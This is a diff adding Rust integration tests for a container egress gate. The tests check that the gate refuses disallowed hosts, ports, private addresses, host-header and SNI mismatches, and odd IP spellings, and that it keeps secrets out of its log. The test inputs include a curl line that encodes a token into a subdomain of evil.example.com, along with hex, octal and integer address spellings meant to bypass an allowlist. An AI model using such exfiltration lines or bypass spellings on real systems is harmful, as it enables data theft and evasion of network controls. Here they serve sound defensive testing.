@@ -1,0 +1,515 @@
+//! The egress gate on its own, in its container on a fixture network:
+//! fixtures play "the internet" (a sink, a DNS server that records
+//! queries), a client container asks through the gate. Every refusal is
+//! paired with a request that does get through, so "nothing arrived"
+//! cannot come from a broken fixture.
+
+use std::time::Duration;
+
+use bollard::Docker;
+use bollard::container::LogOutput;
+use bollard::models::{ContainerCreateBody, EndpointSettings, HostConfig, NetworkingConfig};
+use bollard::query_parameters::{
+    AttachContainerOptions, CreateContainerOptions, InspectContainerOptions, LogsOptions,
+    StartContainerOptions,
+};
+use futures_util::StreamExt;
+use serde_json::Value;
+
+use crate::engine::connect;
+use crate::fixture::{
+    BASE_IMAGE, FIXTURES_IMAGE, GATE_IMAGE, Service, TEST_LABEL, TestContainer, TestNetwork, exec,
+    http_get, start_service,
+};
+
+/// A gate between a client and the fixtures, all on one internal network.
+struct World {
+    docker: Docker,
+    sink: String,
+    dns: String,
+    gate: TestContainer,
+    /// Holding it keeps the gate's stdin open; dropping it ends the gate.
+    gate_stdin: Option<std::pin::Pin<Box<dyn tokio::io::AsyncWrite + Send>>>,
+    client: TestContainer,
+    // Dropped last: the containers above must go first.
+    _services: Vec<TestContainer>,
+    _network: TestNetwork,
+}
+
+impl World {
+    async fn new(test: &str, gate_args: &[&str]) -> Option<Self> {
+        let docker = connect(test).await?;
+        if docker.inspect_image(GATE_IMAGE).await.is_err() {
+            assert!(
+                std::env::var_os("CI").is_none(),
+                "CI is set and {GATE_IMAGE} is missing"
+            );
+            eprintln!("SKIPPED {test}: {GATE_IMAGE} is not built; run scripts/test");
+            return None;
+        }
+        let label = format!("gate-{test}-{}", std::process::id());
+        let network = TestNetwork::create(&docker, &label).await;
+        let service = |image, cmd, env, alias| Service {
+            image,
+            cmd,
+            env,
+            network: &network,
+            alias,
+            runtime: "runc",
+        };
+        let (sink_container, sink) = start_service(
+            &docker,
+            &label,
+            &service(
+                FIXTURES_IMAGE,
+                &["sink"],
+                &[("SINK_PORTS", "80,443,8443,8080")],
+                "sink",
+            ),
+        )
+        .await;
+        let records = format!("allowed.test={sink},other.test={sink},notprivate.test={sink}");
+        let dns_env = [("DNS_RECORDS", records.as_str())];
+        let (dns_container, dns) = start_service(
+            &docker,
+            &label,
+            &service(FIXTURES_IMAGE, &["fixture-dns"], &dns_env, "dns"),
+        )
+        .await;
+        let (client, _) = start_service(
+            &docker,
+            &label,
+            &service(BASE_IMAGE, &["sleep", "300"], &[], "client"),
+        )
+        .await;
+        let dns_arg = format!("{dns}:53");
+        let mut args = vec![
+            "--allow",
+            "allowed.test",
+            "--allow",
+            "allowed.test:8443",
+            "--allow",
+            "notprivate.test",
+            "--private",
+            "allowed.test",
+            "--private",
+            "allowed.test:8443",
+            "--dns",
+            &dns_arg,
+        ];
+        args.extend(gate_args);
+        let (gate, gate_stdin) = start_gate(&docker, &label, &network, &args).await;
+        let world = Self {
+            docker,
+            sink,
+            dns,
+            gate,
+            gate_stdin: Some(gate_stdin),
+            client,
+            _services: vec![sink_container, dns_container],
+            _network: network,
+        };
+        // Up when its health endpoint answers through the network.
+        let (code, out) = world.sh("for i in $(seq 50); do curl -fs http://gate:3128/healthz && exit 0; sleep 0.1; done; exit 1").await;
+        assert_eq!((code, out.trim()), (0, "ok"), "the gate never answered");
+        Some(world)
+    }
+
+    async fn sh(&self, script: &str) -> (i64, String) {
+        exec(&self.docker, &self.client.id, &["bash", "-c", script], &[]).await
+    }
+
+    /// Sends `request` raw to the gate and returns what came back.
+    async fn raw(&self, request: &str) -> String {
+        let script =
+            "exec 3<>/dev/tcp/gate/3128 && printf '%s' \"$REQUEST\" >&3 && timeout 5 cat <&3; true";
+        let exec_env = format!("REQUEST={request}");
+        exec(
+            &self.docker,
+            &self.client.id,
+            &["bash", "-c", script],
+            &[&exec_env],
+        )
+        .await
+        .1
+    }
+
+    fn sink_records(&self) -> Vec<Value> {
+        serde_json::from_str(&http_get(&self.sink, 9999, "/_records")).unwrap()
+    }
+
+    fn dns_queries(&self) -> Vec<String> {
+        let queries: Vec<Value> =
+            serde_json::from_str(&http_get(&self.dns, 9999, "/_queries")).unwrap();
+        queries
+            .iter()
+            .map(|q| q["name"].as_str().unwrap().to_owned())
+            .collect()
+    }
+
+    /// The gate's decision log so far, one JSON value per line.
+    async fn log(&self) -> Vec<Value> {
+        let mut logs = self.docker.logs(
+            &self.gate.id,
+            Some(LogsOptions {
+                stdout: true,
+                ..Default::default()
+            }),
+        );
+        let mut text = String::new();
+        while let Some(Ok(chunk)) = logs.next().await {
+            if let LogOutput::StdOut { message } = chunk {
+                text.push_str(&String::from_utf8_lossy(&message));
+            }
+        }
+        text.lines()
+            .map(|l| serde_json::from_str(l).unwrap_or_else(|_| panic!("not JSON: {l}")))
+            .collect()
+    }
+
+    async fn log_text(&self) -> String {
+        self.log()
+            .await
+            .iter()
+            .map(ToString::to_string)
+            .collect::<Vec<_>>()
+            .join("\n")
+    }
+}
+
+async fn start_gate(
+    docker: &Docker,
+    label: &str,
+    network: &TestNetwork,
+    args: &[&str],
+) -> (
+    TestContainer,
+    std::pin::Pin<Box<dyn tokio::io::AsyncWrite + Send>>,
+) {
+    let created = docker
+        .create_container(
+            None::<CreateContainerOptions>,
+            ContainerCreateBody {
+                image: Some(GATE_IMAGE.into()),
+                cmd: Some(args.iter().map(|a| (*a).to_owned()).collect()),
+                labels: Some([(TEST_LABEL.to_owned(), label.to_owned())].into()),
+                open_stdin: Some(true),
+                stdin_once: Some(true),
+                attach_stdin: Some(true),
+                host_config: Some(HostConfig {
+                    network_mode: Some(network.name.clone()),
+                    cap_drop: Some(vec!["ALL".into()]),
+                    ..Default::default()
+                }),
+                networking_config: Some(NetworkingConfig {
+                    endpoints_config: Some(
+                        [(
+                            network.name.clone(),
+                            EndpointSettings {
+                                aliases: Some(vec!["gate".into()]),
+                                ..Default::default()
+                            },
+                        )]
+                        .into(),
+                    ),
+                }),
+                ..Default::default()
+            },
+        )
+        .await
+        .unwrap();
+    let container = TestContainer::adopt(docker, created.id);
+    let attached = docker
+        .attach_container(
+            &container.id,
+            Some(AttachContainerOptions {
+                stdin: true,
+                stream: true,
+                ..Default::default()
+            }),
+        )
+        .await
+        .unwrap();
+    docker
+        .start_container(&container.id, None::<StartContainerOptions>)
+        .await
+        .unwrap();
+    (container, attached.input)
+}
+
+/// A shell line sending `CONNECT target` raw (clients rewrite odd address
+/// spellings; the gate must see them as written) and printing the answer.
+fn raw_connect(target: &str) -> String {
+    format!(
+        "exec 3<>/dev/tcp/gate/3128; printf 'CONNECT {target} HTTP/1.1\\r\\n\\r\\n' >&3; timeout 5 cat <&3"
+    )
+}
+
+/// The refusals in `log` for `rule`.
+fn refusals<'a>(log: &'a [Value], rule: &str) -> Vec<&'a Value> {
+    log.iter()
+        .filter(|l| l["verdict"] == "refuse" && l["rule"] == rule)
+        .collect()
+}
+
+#[tokio::test]
+async fn allowed_http_and_connect_get_through_and_are_logged() {
+    let Some(world) = World::new("allowed", &[]).await else {
+        return;
+    };
+    let (code, out) = world
+        .sh("curl -s -x http://gate:3128 http://allowed.test/hello")
+        .await;
+    assert_eq!((code, out.as_str()), (0, "sink\n"));
+    // TLS to 443: the sink is no TLS server, but the ClientHello arrives.
+    world
+        .sh("curl -s --max-time 5 -x http://gate:3128 https://allowed.test/")
+        .await;
+    // Another listed port, no TLS required there.
+    let (code, _) = world
+        .sh("curl -s --max-time 5 -x http://gate:3128 -p http://allowed.test:8443/tunnelled")
+        .await;
+    assert_eq!(code, 0);
+    let records = world.sink_records();
+    let ports: Vec<u64> = records
+        .iter()
+        .map(|r| r["port"].as_u64().unwrap())
+        .collect();
+    assert_eq!(ports, [80, 443, 8443], "{records:#?}");
+    assert!(
+        records[0]["first_bytes"]
+            .as_str()
+            .unwrap()
+            .starts_with("GET /hello HTTP/1.1")
+    );
+    assert!(
+        records[1]["first_bytes"]
+            .as_str()
+            .unwrap()
+            .starts_with('\u{16}'),
+        "a TLS ClientHello"
+    );
+    let log = world.log().await;
+    let allowed: Vec<_> = log
+        .iter()
+        .filter(|l| l["verdict"] == "allow")
+        .map(|l| (l["method"].clone(), l["port"].clone()))
+        .collect();
+    assert_eq!(allowed.len(), 3, "{log:#?}");
+    assert!(
+        log.iter()
+            .filter(|l| l["verdict"] == "allow")
+            .all(|l| l["host"] == "allowed.test"
+                && l["rule"].as_str().unwrap().starts_with("allowed.test"))
+    );
+}
+
+#[tokio::test]
+async fn each_refusal_gets_a_403_naming_its_rule_and_nothing_arrives() {
+    let Some(world) = World::new("refusals", &[]).await else {
+        return;
+    };
+    let sink = world.sink.clone();
+    let octets: Vec<u32> = sink.split('.').map(|o| o.parse().unwrap()).collect();
+    let as_number = octets.iter().fold(0u32, |n, o| n << 8 | o);
+    let spellings = [
+        sink.clone(),
+        format!("{}.{}.{}", octets[0], octets[1], octets[2] << 8 | octets[3]),
+        format!(
+            "0x{:x}.0x{:x}.0x{:x}.0x{:x}",
+            octets[0], octets[1], octets[2], octets[3]
+        ),
+        format!(
+            "0{:o}.0{:o}.{}.{}",
+            octets[0], octets[1], octets[2], octets[3]
+        ),
+        as_number.to_string(),
+        format!("[::ffff:{sink}]"),
+    ];
+    let mut cases: Vec<(String, &str)> = vec![
+        (
+            "curl -s -w %{http_code} -x http://gate:3128 http://evil.test/".into(),
+            "not-on-allowlist",
+        ),
+        (
+            "curl -s -w %{http_code} -x http://gate:3128 http://allowed.test:8080/".into(),
+            "port-not-allowed",
+        ),
+        (raw_connect("allowed.test:8080"), "port-not-allowed"),
+        (
+            "curl -s -w %{http_code} -x http://gate:3128 http://notprivate.test/".into(),
+            "private-address-not-allowed",
+        ),
+        (
+            "curl -s -w %{http_code} -x http://gate:3128 -H 'Host: other.test' http://allowed.test/".into(),
+            "host-header-mismatch",
+        ),
+    ];
+    for spelling in &spellings {
+        cases.push((raw_connect(&format!("{spelling}:80")), "address-not-listed"));
+    }
+    for (script, rule) in &cases {
+        let before = world.log().await.len();
+        let (_, out) = world.sh(script).await;
+        assert!(out.contains("403"), "{script}: not a 403: {out}");
+        assert!(
+            out.contains("egress gate refused") && out.contains(rule),
+            "{script}: expected {rule} in {out}"
+        );
+        let log = world.log().await;
+        assert!(
+            log[before..]
+                .iter()
+                .any(|l| l["verdict"] == "refuse" && l["rule"] == *rule),
+            "{script}: {:#?}",
+            &log[before..]
+        );
+        assert!(
+            world.sink_records().is_empty(),
+            "{script}: the sink got something"
+        );
+    }
+    // SNI naming another host than the CONNECT: the tunnel is closed
+    // before anything is dialled.
+    let (code, _) = world.sh("curl -s --max-time 5 -x http://gate:3128 --connect-to other.test:443:allowed.test:443 https://other.test/").await;
+    assert_ne!(code, 0);
+    assert_eq!(refusals(&world.log().await, "sni-mismatch").len(), 1);
+    assert!(
+        world.sink_records().is_empty(),
+        "the sink got the mismatched tunnel"
+    );
+    // The positive control, on the same gate and sink.
+    let (code, out) = world
+        .sh("curl -s -x http://gate:3128 http://allowed.test/")
+        .await;
+    assert_eq!((code, out.as_str()), (0, "sink\n"));
+    assert_eq!(world.sink_records().len(), 1);
+}
+
+#[tokio::test]
+async fn a_refused_name_is_never_resolved_and_the_log_keeps_no_secrets() {
+    let Some(world) = World::new("dns-and-log", &[]).await else {
+        return;
+    };
+    let secret = "c2VjcmV0LXRva2Vu";
+    world
+        .sh(&format!(
+            "curl -s -x http://gate:3128 http://{secret}.evil.example.com/"
+        ))
+        .await;
+    world
+        .sh("curl -s -x http://gate:3128 http://evil.test/")
+        .await;
+    let (code, _) = world
+        .sh("curl -s -x http://gate:3128 -H 'X-Secret: header-secret-77' 'http://allowed.test/path-secret-55?query-secret-66'")
+        .await;
+    assert_eq!(code, 0);
+    let queries = world.dns_queries();
+    assert!(
+        queries.iter().any(|q| q == "allowed.test"),
+        "the allowed name was looked up: {queries:?}"
+    );
+    assert!(
+        !queries.iter().any(|q| q.contains("evil")),
+        "a refused name was looked up: {queries:?}"
+    );
+    let log = world.log_text().await;
+    for hidden in [
+        secret,
+        "evil.test",
+        "path-secret-55",
+        "query-secret-66",
+        "header-secret-77",
+        "X-Secret",
+    ] {
+        assert!(!log.contains(hidden), "`{hidden}` is in the log:\n{log}");
+    }
+    let entries = world.log().await;
+    let shown: Vec<_> = refusals(&entries, "not-on-allowlist")
+        .iter()
+        .map(|l| l["host"].as_str().unwrap().to_owned())
+        .collect();
+    assert!(shown[0].starts_with("example.com#"), "{shown:?}");
+    assert!(shown[1].starts_with('#'), "{shown:?}");
+    // The request itself still reached the sink whole.
+    assert!(
+        world.sink_records()[0]["first_bytes"]
+            .as_str()
+            .unwrap()
+            .contains("path-secret-55?query-secret-66")
+    );
+}
+
+#[tokio::test]
+async fn bad_requests_get_4xx_bounds_hold_and_the_gate_keeps_serving() {
+    let Some(world) = World::new(
+        "bounds",
+        &["--max-connections", "3", "--header-timeout", "2"],
+    )
+    .await
+    else {
+        return;
+    };
+    assert!(
+        world
+            .raw("GARBAGE\r\n\r\n")
+            .await
+            .starts_with("HTTP/1.1 400")
+    );
+    let huge = format!(
+        "GET http://allowed.test/ HTTP/1.1\r\nX-Big: {}\r\n\r\n",
+        "a".repeat(20_000)
+    );
+    assert!(world.raw(&huge).await.starts_with("HTTP/1.1 431"));
+    assert!(
+        world
+            .raw("GET / HTTP/1.1\r\n\r\n")
+            .await
+            .starts_with("HTTP/1.1 400")
+    );
+    // Two idle connections plus the check fill the bound of three; a fourth
+    // is turned away, and once they close the gate serves again.
+    let (_, out) = world
+        .sh("exec 3<>/dev/tcp/gate/3128; exec 4<>/dev/tcp/gate/3128; exec 5<>/dev/tcp/gate/3128; sleep 0.3; \
+             curl -s -o /dev/null -w '%{http_code}' http://gate:3128/healthz; exec 3>&- 4>&- 5>&-")
+        .await;
+    assert_eq!(out, "503");
+    let (_, out) = world
+        .sh("sleep 0.3; curl -s http://gate:3128/healthz")
+        .await;
+    assert_eq!(out.trim(), "ok");
+    // A connection that sends nothing is closed after the header timeout.
+    let (_, out) = world.sh("exec 3<>/dev/tcp/gate/3128; start=$SECONDS; timeout 10 cat <&3; echo \"closed after $((SECONDS - start))\"").await;
+    let waited: u64 = out.trim().rsplit(' ').next().unwrap().parse().unwrap();
+    assert!((1..=4).contains(&waited), "{out}");
+    let (code, out) = world
+        .sh("curl -s -x http://gate:3128 http://allowed.test/")
+        .await;
+    assert_eq!((code, out.as_str()), (0, "sink\n"));
+}
+
+#[tokio::test]
+async fn the_gate_exits_when_its_stdin_closes() {
+    let Some(mut world) = World::new("stdin", &[]).await else {
+        return;
+    };
+    drop(world.gate_stdin.take());
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    loop {
+        let inspect = world
+            .docker
+            .inspect_container(&world.gate.id, None::<InspectContainerOptions>)
+            .await
+            .unwrap();
+        let state = inspect.state.unwrap();
+        if state.running == Some(false) {
+            assert_eq!(state.exit_code, Some(0));
+            break;
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "the gate outlived its stdin"
+        );
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+}
